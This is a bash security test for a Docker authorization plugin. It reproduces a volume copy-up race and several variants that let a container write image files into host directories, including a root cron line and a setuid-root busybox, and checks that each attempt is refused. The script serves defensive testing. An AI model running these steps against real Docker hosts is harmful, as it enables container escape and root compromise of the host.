#!/bin/bash
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
# found-79 (red team 6, F-06): at `docker create -v V:/data IMG` (and
# `docker run`'s create) dockerd copies the image's /data into the named
# volume V when V is empty (daemon/create_unix.go populateVolumes), by
# path, as root, in its own mount namespace, before any runtime runs. A
# running container that also mounts V swaps the first directory dockerd
# makes for a link to a host directory (renameat2 RENAME_EXCHANGE), and
# the rest of the image lands there (/etc/cron.d; here a scratch
# directory). A local volume binding a host directory (`o=bind`, allowed
# as a bind) receives the image's files with no race, setuid programs
# with their modes. confine-authz now refuses a create that copies into a
# volume that binds a host directory, that a container dockerd has on
# disk mounts (or binds the data of), or that a request in flight names;
# and while such a copy runs, any request naming the volume
# (src/copyup.h).
#
# Real containerd and dockerd, the gate as the default runtime,
# confine-authz registered (authz-engine.sh).
#   controls: `docker run -v V:/data IMG` of a fresh volume is
#   initialised from the image; `-v V:/d:nocopy` and `--mount
#   ...,volume-nocopy` share it; compose-like, a first container copies
#   and a second joins with nocopy, both run; the attacker's container
#   (a named volume) runs; a bind-type volume is created and used with
#   nocopy;
#   attacks: (1) the race: docker create -v V:/data while the attacker's
#   container holds V: refused, the image's files absent from the target;
#   (2) the copy into a bind-type volume (created first, or in the same
#   create with --mount volume-opt): refused, no setuid program in the
#   host directory; (3) joining V (nocopy) while a create copies an
#   image's 30000 files into it: refused, and passes once it returned;
#   (5) the writer binds the volume through a link it has retargeted
#   since (on disk its source leads elsewhere; the kernel's mount is
#   what counts): refused, nothing in the target;
#   (4) authz.docker_root pointing at a decoy root with no containers:
#   refused (the asking dockerd does not hold its volumes/metadata.db).
# Exit 0: an attack worked (files in the target or the host directory,
# or a join passed during the copy); 1: all refused; 2: the test failed.
set -u
N=79
. "$(dirname "$0")/authz-engine.sh"
refused_by_mounts () { grep -qE "confine: refused: (.*; )?mounts: " <<<"$1"; }
said () { grep -o 'confine: refused: [^(]*' <<<"$1" | head -1 | cut -c1-400; }
worked=0

# The attacker's image: busybox, the swapper, /data/a/{f0000..f4999,zz-job}
# (a cron line last) and /suid/sh, busybox setuid root.
R=$T/img
cp -a "$ENGINE_DIR/busybox-rootfs" "$R" || exit 2
cc -static -O2 -o "$R/swap" "$(dirname "$0")/swap.c" || exit 2
mkdir -p "$R/data/a" "$R/suid"
for i in $(seq -w 0 4999); do echo filler > "$R/data/a/f$i"; done
echo '* * * * * root id > /tmp/pwned' > "$R/data/a/zz-job"
cp /bin/busybox "$R/suid/sh" && chmod 4755 "$R/suid/sh"
tar --numeric-owner --owner=0 --group=0 -C "$R" -cf "$T/img.tar" . \
  && docker import --change 'ENV PATH=/bin' "$T/img.tar" rt79:1 >/dev/null || exit 2
# A slow copy: 30000 files at /big.
B=$T/big
cp -a "$ENGINE_DIR/busybox-rootfs" "$B" && mkdir -p "$B/big/a" || exit 2
(cd "$B/big/a" && for i in $(seq -w 0 29999); do : > "f$i"; done)
tar --numeric-owner --owner=0 --group=0 -C "$B" -cf "$T/big.tar" . \
  && docker import --change 'ENV PATH=/bin' "$T/big.tar" rt79big:1 >/dev/null || exit 2
rm -rf "$R" "$B" "$T/img.tar" "$T/big.tar"

# Control: a fresh volume is initialised from the image (the copy-up of
# ordinary use), and nocopy shares it.
n=$(docker run --rm --network none -v rt79fresh:/data rt79:1 sh -c 'ls /data/a | wc -l' 2>&1)
[ "$n" = 5001 ] || { echo "CONTROL FAILED: docker run -v rt79fresh:/data: $n"; exit 2; }
docker run --rm --network none -v rt79fresh:/d:nocopy rt79:1 cat /d/a/zz-job 2>&1 | grep -q 'root id' \
  && docker run --rm --network none --mount type=volume,src=rt79fresh,dst=/d,volume-nocopy rt79:1 \
       test -e /d/a/f0000 \
  || { echo "CONTROL FAILED: the initialised volume shared with nocopy"; exit 2; }
echo "control: docker run -v V:/data of a fresh volume copied the image's 5001 files; -v V:/d:nocopy and --mount ...,volume-nocopy share them"

# Control, compose-like: the first container copies, the second joins with nocopy.
db=$(docker create --network none -v rt79c:/data rt79:1 sleep 30 2>&1) \
  || { echo "CONTROL FAILED: the first create of rt79c: $db"; exit 2; }
web=$(docker create --network none -v rt79c:/data:nocopy rt79:1 sh -c 'ls /data/a | wc -l' 2>&1) \
  || { echo "CONTROL FAILED: the second create of rt79c with nocopy: $web"; exit 2; }
docker start "$db" >/dev/null && n=$(docker start -a "$web" 2>&1)
[ "$n" = 5001 ] || { echo "CONTROL FAILED: the compose-like pair: $n"; exit 2; }
docker rm -f "$db" "$web" >/dev/null 2>&1
echo "control: compose-like, one container copies into rt79c and one joins it with nocopy: both ran"

# Attack 1: the race, into a scratch directory standing for /etc/cron.d.
TARGET=$T/target
mkdir -p "$TARGET" && echo "the host's own file" > "$TARGET/original"
for i in 1 2 3 4 5; do
  v=rt79r$i
  docker volume create "$v" >/dev/null || exit 2
  if ! c=$(docker run -d --network none -v "$v:/v" rt79:1 /swap /v "$TARGET" 2>&1); then
    echo "CONTROL FAILED: the attacker's container (a named volume) did not run: $c"; exit 2
  fi
  if e=$(docker create --network none -v "$v:/data" rt79:1 true 2>&1); then
    docker rm -f "$e" >/dev/null 2>&1
    docker rm -f "$c" >/dev/null 2>&1
    echo "race $i: docker create -v $v:/data passed the plugin; the target holds $(ls "$TARGET" | wc -l) entries"
    [ -e "$TARGET/zz-job" ] && { echo "ATTACK WORKED: the image's cron line is in the host directory"; worked=1; break; }
  else
    docker rm -f "$c" >/dev/null 2>&1
    refused_by_mounts "$e" || { echo "race: not refused by mounts: $e"; exit 2; }
    echo "race: docker create -v $v:/data refused: $(said "$e")"
    grep -q -- "-v $v:/data:nocopy" <<<"$e" || { echo "the refusal does not say how to proceed"; exit 2; }
    break
  fi
done
echo "target after the race: $(ls "$TARGET" | wc -l) entries ($(ls "$TARGET" | head -3 | tr '\n' ' ')...)"
[ "$(ls "$TARGET")" = original ] || worked=1

# Attack 2: the copy into a volume that binds a host directory.
mkdir -p "$T/home" "$T/home2"
out=$(docker volume create -o type=none -o o=bind -o device="$T/home" rt79b 2>&1) \
  || { echo "CONTROL FAILED: a volume binding an ordinary directory: $out"; exit 2; }
if e=$(docker create --network none -v rt79b:/suid rt79:1 true 2>&1); then
  docker rm -f "$e" >/dev/null 2>&1
  echo "docker create -v rt79b:/suid passed the plugin: $(ls -l "$T/home" | tail -n +2)"
else
  refused_by_mounts "$e" || { echo "bind volume: not refused by mounts: $e"; exit 2; }
  echo "docker create -v rt79b:/suid (a volume binding $T/home) refused: $(said "$e")"
fi
[ -e "$T/home/sh" ] && { echo "ATTACK WORKED: $(stat -c '%A %U' "$T/home/sh") $T/home/sh"; worked=1; }
before=$(ls -A "$T/home")
if ! e=$(docker create --network none -v rt79b:/suid:nocopy rt79:1 true 2>&1); then
  echo "CONTROL FAILED: the bind volume with nocopy: $e"; exit 2
fi
docker rm -f "$e" >/dev/null 2>&1
[ "$(ls -A "$T/home")" = "$before" ] || { echo "CONTROL FAILED: nocopy wrote into $T/home"; exit 2; }
echo "control: docker create -v rt79b:/suid:nocopy passed and wrote nothing"
if e=$(docker create --network none --mount "type=volume,src=rt79m,dst=/suid,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=$T/home2" \
         rt79:1 true 2>&1); then
  docker rm -f "$e" >/dev/null 2>&1
  echo "docker create --mount ...,volume-opt=o=bind passed the plugin"
else
  refused_by_mounts "$e" || { echo "--mount bind volume: not refused by mounts: $e"; exit 2; }
  echo "docker create --mount ...,volume-opt=o=bind,volume-opt=device=$T/home2 refused: $(said "$e")"
fi
[ -e "$T/home2/sh" ] && { echo "ATTACK WORKED: $(stat -c '%A %U' "$T/home2/sh") $T/home2/sh"; worked=1; }

# Attack 3: joining a volume while a create copies 30000 files into it.
v=rt79f
( docker create --network none -v "$v:/big" rt79big:1 true > "$T/copy.out" 2>&1; echo $? > "$T/copy.rc" ) &
bg=$!
for _ in $(seq 600); do [ -e "$T/e/docker/volumes/$v/_data/a" ] && break; sleep 0.05; done
[ -e "$T/e/docker/volumes/$v/_data/a" ] || { wait "$bg"; echo "the copy never started: $(cat "$T/copy.out")"; exit 2; }
j=$(docker create --network none -v "$v:/x:nocopy" rt79:1 true 2>&1); jrc=$?
[ -e "$T/copy.rc" ] && during=no || during=yes
wait "$bg"
[ "$(cat "$T/copy.rc")" = 0 ] || { echo "CONTROL FAILED: the copying create: $(cat "$T/copy.out")"; exit 2; }
docker rm -f "$(cat "$T/copy.out")" >/dev/null 2>&1
if [ "$jrc" = 0 ]; then
  docker rm -f "$j" >/dev/null 2>&1
  if [ "$during" = yes ]; then echo "ATTACK WORKED: a create joined $v while dockerd copied into it"; worked=1
  else echo "the copy ended before the join was judged: inconclusive"; exit 2; fi
else
  refused_by_mounts "$j" || { echo "join: not refused by mounts: $j"; exit 2; }
  echo "join during the copy refused: $(said "$j")"
  j=$(docker create --network none -v "$v:/x:nocopy" rt79:1 true 2>&1) \
    || { echo "CONTROL FAILED: joining after the copy returned: $j"; exit 2; }
  docker rm -f "$j" >/dev/null 2>&1
  echo "control: joining $v after the copying create returned passed"
fi
# Attack 5: the writer's bind reaches the volume through a link it has
# since retargeted: on disk its source now leads elsewhere, but the
# kernel mounted the volume's data. A (an allowed bind of a scratch host
# directory) makes `l` a link to rt79v's data while C, created binding
# `l`, starts; then `l` is a directory again; then the copy into rt79v.
TARGET5=$T/target5
mkdir -p "$TARGET5" "$T/shared/l"
docker volume create rt79v >/dev/null || exit 2
VDATA=$T/e/docker/volumes/rt79v/_data
a=$(docker run -d --network none -v "$T/shared:/s" rt79:1 sleep 1000 2>&1) \
  || { echo "CONTROL FAILED: the link planter: $a"; exit 2; }
c=$(docker create --network none -v "$T/shared/l:/v" rt79:1 /swap /v "$TARGET5" 2>&1) \
  || { echo "CONTROL FAILED: the container binding the link: $c"; exit 2; }
docker exec "$a" sh -c "rmdir /s/l && ln -s $VDATA /s/l" || exit 2
out=$(docker start "$c" 2>&1) || { echo "CONTROL FAILED: starting the container binding the link: $out"; exit 2; }
docker exec "$a" sh -c 'rm /s/l && mkdir /s/l' || exit 2
if e=$(docker create --network none -v rt79v:/data rt79:1 true 2>&1); then
  docker rm -f "$e" >/dev/null 2>&1
  echo "retargeted link: docker create -v rt79v:/data passed the plugin"
else
  refused_by_mounts "$e" || { echo "retargeted link: not refused by mounts: $e"; exit 2; }
  echo "retargeted link: refused: $(said "$e")"
fi
docker rm -f "$a" "$c" >/dev/null 2>&1
[ -e "$TARGET5/zz-job" ] && { echo "ATTACK WORKED: through a retargeted link, $(ls "$TARGET5" | wc -l) files in the host directory"; worked=1; }

# A data root that is not the asking dockerd's (a stale /var/lib/docker
# beside a dockerd with another data-root) would show no container: the
# plugin checks that dockerd holds its volumes/metadata.db open.
mkdir -p "$T/decoy/volumes" "$T/decoy/containers" && : > "$T/decoy/volumes/metadata.db"
jq --arg d "$T/decoy" '.authz.docker_root = $d' "$T/policy.json" > "$T/p.tmp" && cat "$T/p.tmp" > "$T/policy.json"
if e=$(docker create --network none -v rt79d:/data rt79:1 true 2>&1); then
  docker rm -f "$e" >/dev/null 2>&1
  echo "a copy passed with authz.docker_root pointing at a decoy"; worked=1
elif grep -q 'is not the data root of the dockerd that asked' <<<"$e"; then
  echo "decoy data root: refused: $(grep -o 'is not the data root[^;]*' <<<"$e" | head -1)"
else
  echo "decoy data root: refused for another reason: $e"; exit 2
fi
jq --arg d "$T/e/docker" '.authz.docker_root = $d' "$T/policy.json" > "$T/p.tmp" && cat "$T/p.tmp" > "$T/policy.json"
[ "$worked" = 1 ] && exit 0
exit 1
